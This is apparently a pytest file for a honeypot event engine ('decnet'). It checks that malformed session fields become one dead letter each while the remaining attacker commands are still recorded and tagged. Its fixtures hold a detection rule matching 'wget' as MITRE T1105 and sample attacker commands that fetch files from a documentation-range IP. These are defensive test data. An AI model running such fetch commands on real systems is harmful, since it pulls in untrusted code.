"""Events that cannot be read whole, through a running engine: what can be read is stored, judged and told of once."""

from __future__ import annotations

from collections.abc import AsyncIterator
from pathlib import Path
from typing import Any

import pytest

from decnet.bus.base import Event
from decnet.config import load_settings
from decnet.engine import Engine
from decnet.ids import attacker_id
from decnet.runtime.health import health_payload

IP = "203.0.113.5"
RULE = """rule_id: R0001
rule_version: 1
name: fetch
description: fetches
applies_to: [command]
match: {pattern: '\\bwget\\b'}
emits: [{tactic: TA0011, technique_id: T1105, confidence: 0.8}]
evidence_fields: [command_text]
tests: {match: ["wget x"], no_match: ["man"]}
"""
ENDED: dict[str, Any] = {
    "session_id": "s1",
    "attacker_ip": f"::ffff:{IP}",
    "decky_id": "web",
    "service": "ssh",
    "protocol": "ssh",
    "started_at": 1_700_000_000,
    "ended_at": "2023-11-14T22:13:30Z",
    "commands": [
        {"command_text": "wget http://198.51.100.9/a", "ts": 1_700_000_001},
        {"command_text": "wget http://198.51.100.9/b", "ts": "in a while"},
        "wget http://198.51.100.9/c",
        {"command_text": "wget http://198.51.100.9/d", "uuid": "own", "ts": "2023-11-14T22:13:25Z"},
    ],
}


@pytest.fixture
async def engine(tmp_path: Path) -> AsyncIterator[Engine]:
    (tmp_path / "rules").mkdir()
    (tmp_path / "rules" / "a.yaml").write_text(RULE)
    settings = load_settings(
        data_dir=tmp_path / "data",
        rules=tmp_path / "rules",
        bus={"type": "memory"},
        workers=("recorder", "behave", "ttp", "attribution"),
        ttp_rule_store_type="filesystem",
    )
    made = Engine(settings)
    await made.start()
    yield made
    await made.stop(5.0)


async def settled(engine: Engine, *events: Event) -> None:
    await engine.bus.publish_events(events)
    assert await engine.until_idle(0.3) is None


async def test_one_bad_time_of_a_command_costs_that_command_only_and_is_told_of_once(engine: Engine) -> None:
    event = Event("attacker.session.ended", ENDED, "session.ended", "e1", 1_700_000_010.0)
    await settled(engine, event)
    repo = engine.repo
    session = await repo.session_payload("s1")
    assert session is not None
    assert (session["attacker_ip"], session["ended_at"]) == (IP, 1_700_000_010.0)
    assert {(c["id"], c["command_text"][-1]) for c in session["commands"]} == {
        ("s1#cmd0", "a"), ("s1#cmd2", "c"), ("own", "d"),
    }  # fmt: skip
    tags = await repo.list_tags()
    assert {(t["source_id"], t["technique_id"]) for t in tags if t["source_kind"] == "command"} == {
        ("s1#cmd0", "T1105"), ("s1#cmd2", "T1105"), ("own", "T1105"),
    }  # fmt: skip
    (letter,) = await repo.dead_letters()
    assert (letter["worker"], letter["path"], letter["value"]) == (
        "recorder",
        "commands[1].ts",
        "'in a while'",
    )
    assert "commands[1].ts" in letter["reason"]
    again = Event(event.topic, event.payload, event.type, "e1", event.ts)
    await settled(engine, again)
    assert len(await repo.dead_letters()) == 1
    runners = engine.supervisor.runners
    health = {n: health_payload(n, "ok", r.stats, {}) for n, r in runners.items()}
    assert health["recorder"]["element_faults"] == {"attacker.session.ended": health["recorder"]["processed"]}
    assert [health[n]["element_faults"] for n in ("behave", "ttp", "attribution")] == [{}] * 3


async def test_a_body_that_is_no_event_is_one_dead_letter_and_all_readers_go_on(engine: Engine) -> None:
    bad = Event("attacker.session.ended", {**ENDED, "session_id": 7}, "", "bad", 1_700_000_010.0)
    good = Event("attacker.session.ended", {**ENDED, "commands": []}, "", "good", 1_700_000_011.0)
    mail = Event("email.received", {"subject": "about nobody"}, "", "mail", 1_700_000_012.0)
    await settled(engine, bad, mail, good)
    rows = [
        (row["worker"], row["topic"], row["reason"]) for row in reversed(await engine.repo.dead_letters())
    ]
    assert sorted(rows) == [
        ("recorder", "attacker.session.ended", "malformed: session_id: expected `str`, got `int`"),
        ("ttp", "email.received", "malformed: payload: neither attacker_uuid nor attacker_ip"),
    ]
    stats = {name: runner.stats for name, runner in engine.supervisor.runners.items()}
    assert {name: stats[name].malformed for name in ("recorder", "behave", "ttp")} == {
        "recorder": 2, "behave": 1, "ttp": 2,
    }  # fmt: skip
    assert attacker_id(IP) == (await engine.repo.session_payload("s1") or {})["attacker_uuid"]
